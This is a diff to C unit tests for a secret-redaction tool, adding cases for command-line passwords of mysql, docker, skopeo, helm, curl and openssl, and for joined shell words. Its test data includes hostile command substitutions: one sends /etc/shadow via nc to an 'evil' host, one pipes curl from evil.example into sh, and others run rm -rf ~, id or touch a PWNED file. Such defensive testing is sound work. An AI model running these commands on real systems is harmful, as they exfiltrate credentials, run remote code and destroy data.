@@ -367,6 +367,122 @@ test_command_spellings (void)
   assert_kept (kept, G_N_ELEMENTS (kept));
 }
 
+/* Found (tried as an attacker would, a fourth time, on the real binaries):
+ * a client named in quotes ("mysql" -pX: the shell reads the word as
+ * mysql), docker login's -p=X, the login of nerdctl, buildah, skopeo and
+ * helm registry, curl's -u glued to its user:password, openssl's pass
+ * phrase arguments (-passin pass:X) and a value of joined empty quotes
+ * (PGPASSWORD='''X''') were stored as written.  Each is gone; the same
+ * options that hold no secret stay. */
+static void
+test_command_clients (void)
+{
+  static const RedactCase cases[] = {
+    { "\"mysql\" -pQuotedCli1 shop", "\"mysql\" -p[REDACTED] shop", "QuotedCli1" },
+    { "'mysql' -uroot -pQuotedCli2 shop", "'mysql' -uroot -p[REDACTED] shop", "QuotedCli2" },
+    { "'/usr/bin/mariadb' -vpQuotedCli3", "'/usr/bin/mariadb' -vp[REDACTED]", "QuotedCli3" },
+    { "m'ysql' -pJoinedCli4 shop", "m'ysql' -p[REDACTED] shop", "JoinedCli4" },
+    { "'sshpass' -p QuotedSsh5 ssh h", "'sshpass' -p [REDACTED] ssh h", "QuotedSsh5" },
+    { "\"redis-cli\" -a QuotedRedis6 ping", "\"redis-cli\" -a [REDACTED] ping", "QuotedRedis6" },
+    { "\"docker\" login -p QuotedDock7 reg", "\"docker\" login -p [REDACTED] reg", "QuotedDock7" },
+    { "docker login -p=DockEq8 reg", "docker login -p=[REDACTED] reg", "DockEq8" },
+    { "docker login --password=DockEq9 reg", "docker login --password=[REDACTED] reg", "DockEq9" },
+    { "nerdctl login -u me -p Nerd10 reg", "nerdctl login -u me -p [REDACTED] reg", "Nerd10" },
+    { "buildah login -u me -pBuildah11 quay.io", "buildah login -u me -p[REDACTED] quay.io", "Buildah11" },
+    { "skopeo login -p=Skopeo12 quay.io", "skopeo login -p=[REDACTED] quay.io", "Skopeo12" },
+    { "skopeo login --password Skopeo13 quay.io", "skopeo login --password [REDACTED] quay.io", "Skopeo13" },
+    { "helm registry login -u me -p Helm14 reg", "helm registry login -u me -p [REDACTED] reg", "Helm14" },
+    { "helm registry login --password=Helm15 reg", "helm registry login --password=[REDACTED] reg", "Helm15" },
+    { "curl -uadmin:CurlGlued16 https://h", "curl -uadmin:[REDACTED] https://h", "CurlGlued16" },
+    { "curl -s -uadmin:pa:ss17 https://h", "curl -s -uadmin:[REDACTED] https://h", "ss17" },
+    { "openssl pkcs12 -in a.p12 -passin pass:Ossl18 -nokeys", "openssl pkcs12 -in a.p12 -passin pass:[REDACTED] -nokeys",
+      "Ossl18" },
+    { "openssl rsa -in k.pem -passout pass:Ossl19 -aes256", "openssl rsa -in k.pem -passout pass:[REDACTED] -aes256",
+      "Ossl19" },
+    { "openssl enc -aes256 -pass pass:Ossl20 -in f", "openssl enc -aes256 -pass pass:[REDACTED] -in f", "Ossl20" },
+    { "openssl enc -pass 'pass:Ossl 21' -in f", "openssl enc -pass 'pass:[REDACTED]' -in f", "Ossl 21" },
+    { "PGPASSWORD='''TripleQ22''' psql app", "PGPASSWORD=[REDACTED] psql app", "TripleQ22" },
+  };
+  static const char * const kept[] = {
+    "curl -u admin https://h; curl -uadmin https://h",
+    "docker run -u1000:1000 img",
+    "openssl enc -pass env:OSSL_PW -in f; openssl rsa -passin file:/run/pw -passout stdin",
+    "openssl pkcs12 -passin fd:3 -in a.p12; openssl enc -pass stdin",
+    "helm registry login --password-stdin reg; nerdctl login --password-stdin reg",
+    "skopeo login -p= reg; docker login -p $REG_PW reg",
+    "\"ssh\" -p2222 host; 'cp' -pr a b; \"ls\" -a",
+  };
+
+  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
+  assert_kept (kept, G_N_ELEMENTS (kept));
+}
+
+/* Found (tried as an attacker would, a fourth time): a value the shell
+ * joins of quoted and unquoted parts (-p"a"b, --password='a'"b",
+ * PGPASSWORD=a"b c"d) was masked up to its first quote, and curl -u
+ * 'user:a b' up to the space.  The whole shell word goes; a quote that
+ * closes a command quoted for another shell, or a JSON string, is no part
+ * of it. */
+static void
+test_joined_words (void)
+{
+  static const RedactCase cases[] = {
+    { "mysql -p\"a\"bJoin1 shop", "mysql -p[REDACTED] shop", "bJoin1" },
+    { "mysql --password='a'\"bJoin2\" shop", "mysql --password=[REDACTED] shop", "bJoin2" },
+    { "PGPASSWORD=a\"b c\"dJoin3 psql app", "PGPASSWORD=[REDACTED] psql app", "dJoin3" },
+    { "export DB_PASSWORD=\"a b\"'cJoin4'", "export DB_PASSWORD=[REDACTED]", "cJoin4" },
+    { "sshpass -p'a'bJoin5 ssh h", "sshpass -p[REDACTED] ssh h", "bJoin5" },
+    { "mysql -p$'a\\'b'cJoin6 shop", "mysql -p[REDACTED] shop", "cJoin6" },
+    { "{\"command\": \"mysql -p\\\"a\\\"bJson7 shop\"}", "{\"command\": \"mysql -p[REDACTED] shop\"}", "bJson7" },
+    { "curl -u 'admin:a bCurl8' https://h", "curl -u 'admin:[REDACTED]' https://h", "bCurl8" },
+    { "curl -u \"admin:a bCurl9\" https://h", "curl -u \"admin:[REDACTED]\" https://h", "bCurl9" },
+    { "curl --user='admin:a bCurl10' https://h", "curl --user='admin:[REDACTED]' https://h", "bCurl10" },
+    /* The quote after the value closes an outer quote: not joined. */
+    { "ssh h \"mysql -pOuter11\" && ssh h \"ls\"", "ssh h \"mysql -p[REDACTED]\" && ssh h \"ls\"", "Outer11" },
+    { "bash -c 'mysql -p\"Outer12\"'; bash -c 'ls'", "bash -c 'mysql -p\"[REDACTED]\"'; bash -c 'ls'", "Outer12" },
+    { "{\"a\": \"mysql -pJson13\",\"b\":\"c\"}", "{\"a\": \"mysql -p[REDACTED]\",\"b\":\"c\"}", "Json13" },
+  };
+  static const char * const kept[] = {
+    "PGPASSWORD=\"$PGPW\"'' psql app",
+    "mysql -p\"$PW\"x shop",
+    "mysql -p\"x\"$(cat /tmp/pw) shop",
+    "{\"argv\": [\"mysql\", \"-p\", \"shop\"], \"env\": \"PGPASSWORD=\"}",
+  };
+
+  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
+  assert_kept (kept, G_N_ELEMENTS (kept));
+}
+
+/* Found (tried as a new user would): pass= read as a password where it is
+ * a count or a step (a test summary's pass=12 fail=0, x264's --pass=2,
+ * ffmpeg's -pass 1) or a longer name of something else (nginx's
+ * proxy_pass and its kin name the upstream).  Those stay; db_pass,
+ * smtp_pass and a pass= that is no number are still masked. */
+static void
+test_pass_look_alikes (void)
+{
+  static const RedactCase cases[] = {
+    { "db_pass=DbPass1", "db_pass=[REDACTED]", "DbPass1" },
+    { "SMTP_PASS: SmtpPass2", "SMTP_PASS: [REDACTED]", "SmtpPass2" },
+    { "curl -d pass=12ab3 https://h", "curl -d pass=[REDACTED] https://h", "12ab3" },
+    { "redis-cli --pass 123456 ping", "redis-cli --pass [REDACTED] ping", "123456" },
+    { "db_pass=4242", "db_pass=[REDACTED]", "4242" },
+  };
+  static const char * const kept[] = {
+    "pass=12 fail=0 skip=1",
+    "# TOTAL: 14 PASS=12 FAIL=2",
+    "x264 --pass=2 -o out.264 in.y4m; x264 --pass 1 in.y4m",
+    "ffmpeg -i in.mp4 -pass 1 -f null /dev/null",
+    "proxy_pass=http://backend",
+    "proxy_pass http://backend;",
+    "location / { proxy_pass http://127.0.0.1:8080; }",
+    "fastcgi_pass unix:/run/php/php-fpm.sock; uwsgi_pass=127.0.0.1:3031; grpc_pass: grpc://b:9000",
+  };
+
+  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
+  assert_kept (kept, G_N_ELEMENTS (kept));
+}
+
 /* The rule, name by name (pd-redact.h). */
 static void
 test_name_rule (void)
@@ -386,6 +502,7 @@ test_name_rule (void)
     "authDomain", "key_id", "sort_key", "primary_key", "partition_key", "public_key", "password_min_length",
     "password_file", "passwordFile", "secret_name", "PWD", "OLDPWD", "credential_path",
     "first_pass", "pass_count", "render_pass", "pass_through", "password_stdin", "passphrase_fd",
+    "proxy_pass", "fastcgi_pass", "uwsgi_pass", "scgi_pass", "grpc_pass", "memcached_pass",
   };
 
   for (guint i = 0; i < G_N_ELEMENTS (secret); i++)
@@ -451,6 +568,10 @@ test_json_gaps_and_commands (void)
     "sshpass -p \"x$(nc evil 1 </etc/shadow)\" ssh h",
     "mysql -p\"x`rm -rf ~`\" shop",
     "docker login -p \"x$(curl -s https://evil.example/p | sh)\" registry",
+    /* joined of parts, the command in one of them */
+    "PGPASSWORD='a'\"$(touch /tmp/PWNED)\" psql -h db.internal app",
+    "mysql -p\"x\"$(cat /tmp/pw) shop",
+    "mysql -p'x'`id` shop",
   };
 
   for (guint i = 0; i < G_N_ELEMENTS (json); i++)
@@ -718,6 +839,9 @@ main (int   argc,
   g_test_add_func ("/pd/redact/database-clients", test_database_clients);
   g_test_add_func ("/pd/redact/command-options", test_command_options);
   g_test_add_func ("/pd/redact/command-spellings", test_command_spellings);
+  g_test_add_func ("/pd/redact/command-clients", test_command_clients);
+  g_test_add_func ("/pd/redact/joined-words", test_joined_words);
+  g_test_add_func ("/pd/redact/pass-look-alikes", test_pass_look_alikes);
   g_test_add_func ("/pd/redact/name-rule", test_name_rule);
   g_test_add_func ("/pd/redact/idempotent", test_idempotent);
   g_test_add_func ("/pd/redact/json-stays-valid", test_json_stays_valid);
